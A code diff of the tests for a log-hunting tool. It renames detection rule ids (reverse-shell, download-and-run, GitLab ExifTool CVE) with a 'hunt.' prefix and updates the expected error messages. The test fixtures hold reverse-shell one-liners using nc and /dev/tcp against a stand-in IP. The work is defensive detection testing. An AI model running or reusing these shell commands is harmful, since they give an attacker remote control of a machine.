@@ -26,7 +26,7 @@ if (!loaded.ok) throw new Error(loaded.error.message);
 const shipped = loaded.value;
 
 const RULE = `# a comment
-id: test-rule
+id: hunt.test-rule
 title: Test
 severity: high
 confidence: medium
@@ -39,7 +39,7 @@ describe("rule files", () => {
   it("parses a rule with defaults", () => {
     const r = parseRuleFile(RULE, "test-rule.rule", "test-rule");
     expect(r.ok && r.value).toMatchObject({
-      id: "test-rule",
+      id: "hunt.test-rule",
       applies: "any",
       threshold: 1,
       literals: ["needle"],
@@ -58,7 +58,7 @@ describe("rule files", () => {
     [`${RULE}title: again\n`, 9, /"title" given twice \(first on line 3\)/],
     [`${RULE}threshold: many\n`, 9, /threshold "many" is not a positive integer/],
     [`${RULE}just text\n`, 9, /expected "key: value"/],
-    [RULE.replace("literal: needle\n", ""), 0, /missing "literal:"/],
+    [RULE.replace("literal: needle\n", ""), 1, /missing "literal:"/],
   ])("names the file and line of a mistake (%#)", (text, line, msg) => {
     const r = parseRuleFile(text, "rules/hunt/test-rule.rule");
     expect(r.ok).toBe(false);
@@ -70,7 +70,13 @@ describe("rule files", () => {
   });
   it("requires the id to match the file name", () => {
     const r = parseRuleFile(RULE, "x.rule", "x");
-    expect(!r.ok && r.error.message).toMatch(/must match the file name "x.rule"/);
+    expect(!r.ok && r.error.message).toBe(
+      'x.rule:2: id "hunt.test-rule" must be "hunt.x", after the file name "x.rule"',
+    );
+    const bare = parseRuleFile(RULE.replace("id: hunt.test-rule", "id: x"), "x.rule", "x");
+    expect(!bare.ok && bare.error.message).toMatch(
+      /x.rule:2: id "x" must be "hunt." .*\(here: hunt.x\)/,
+    );
   });
   it("keeps spaces of a JSON-quoted literal", () => {
     const r = parseRuleFile(RULE.replace("literal: needle", 'literal: " | sh"'), "f");
@@ -90,11 +96,11 @@ describe("rule files", () => {
     expect(read.ok && read.value.map((r) => r.id)).toEqual(shipped.rules.map((r) => r.id));
     expect(shipped.rules.map((r) => r.id)).toEqual(
       expect.arrayContaining([
-        "gitlab-exiftool-cve-2021-22205",
-        "webshell-upload-dir",
-        "wordpress-xmlrpc-bruteforce",
-        "download-and-run",
-        "reverse-shell",
+        "hunt.gitlab-exiftool-cve-2021-22205",
+        "hunt.webshell-upload-dir",
+        "hunt.wordpress-xmlrpc-bruteforce",
+        "hunt.download-and-run",
+        "hunt.reverse-shell",
       ]),
     );
   });
@@ -123,12 +129,12 @@ describe("huntBuffer / huntFile", () => {
   it("finds the incident's lines in a real Docker json-file log, with line numbers and decoded messages", async () => {
     const hits = await huntFile(FIXTURE.pathname, shipped.compiled);
     expect(hits.map((h) => `${h.line}:${h.rule}`)).toEqual([
-      "1:gitlab-exiftool-cve-2021-22205",
-      "3:gitlab-exiftool-cve-2021-22205",
-      "4:reverse-shell",
-      "6:download-and-run",
-      "7:reverse-shell",
-      "8:reverse-shell",
+      "1:hunt.gitlab-exiftool-cve-2021-22205",
+      "3:hunt.gitlab-exiftool-cve-2021-22205",
+      "4:hunt.reverse-shell",
+      "6:hunt.download-and-run",
+      "7:hunt.reverse-shell",
+      "8:hunt.reverse-shell",
     ]);
     expect(hits[0]!.text).toBe(
       '51.89.237.81 - - [12/Nov/2021:13:20:58 +0800] "POST /uploads/user HTTP/1.0" 422 24 "" "python-requests/2.26.0"',
@@ -164,7 +170,10 @@ describe("huntBuffer / huntFile", () => {
       `first\n${"x".repeat(200_000)} nc -e /bin/sh 203.0.113.9 4444 ${"y".repeat(10)}\nlast bash -i >& /dev/tcp/203.0.113.9/1 0>&1`,
     );
     const hits = await huntFile(file, shipped.compiled, { chunkBytes: 64 * 1024 });
-    expect(hits.map((h) => `${h.line}:${h.rule}`)).toEqual(["2:reverse-shell", "3:reverse-shell"]);
+    expect(hits.map((h) => `${h.line}:${h.rule}`)).toEqual([
+      "2:hunt.reverse-shell",
+      "3:hunt.reverse-shell",
+    ]);
     expect(hits[0]!.text.length).toBeLessThanOrEqual(501);
   });
   it("does not fire on near-misses of a clean access log", () => {
@@ -302,10 +311,10 @@ describe("huntLogs", () => {
     const iocs = iocFromArgs(["203.0.113.9"]);
     if (!iocs.ok) throw new Error(iocs.error.message);
     const hostOnly = {
-      ...shipped.rules.find((r) => r.id === "reverse-shell")!,
+      ...shipped.rules.find((r) => r.id === "hunt.reverse-shell")!,
       applies: "host" as const,
     };
-    const rules = [...shipped.rules.filter((r) => r.id !== "reverse-shell"), hostOnly];
+    const rules = [...shipped.rules.filter((r) => r.id !== "hunt.reverse-shell"), hostOnly];
     const r = await huntLogs(
       [
         { path: FIXTURE.pathname, where: "bk-lab-gitlab", containerId: "abc" },
@@ -317,7 +326,7 @@ describe("huntLogs", () => {
     expect(r.findings.map((f) => `${f.where}:${f.rule}:${f.source}`).sort()).toEqual([
       "bk-lab-gitlab:hunt.download-and-run:hunt",
       "bk-lab-gitlab:hunt.gitlab-exiftool-cve-2021-22205:hunt",
-      "bk-lab-gitlab:hunt.ioc-1:ioc",
+      "bk-lab-gitlab:ioc.log:ioc",
     ]);
     expect(r.gaps).toEqual([
       { path: join(tmp, "missing.log"), message: expect.stringContaining("ENOENT") },
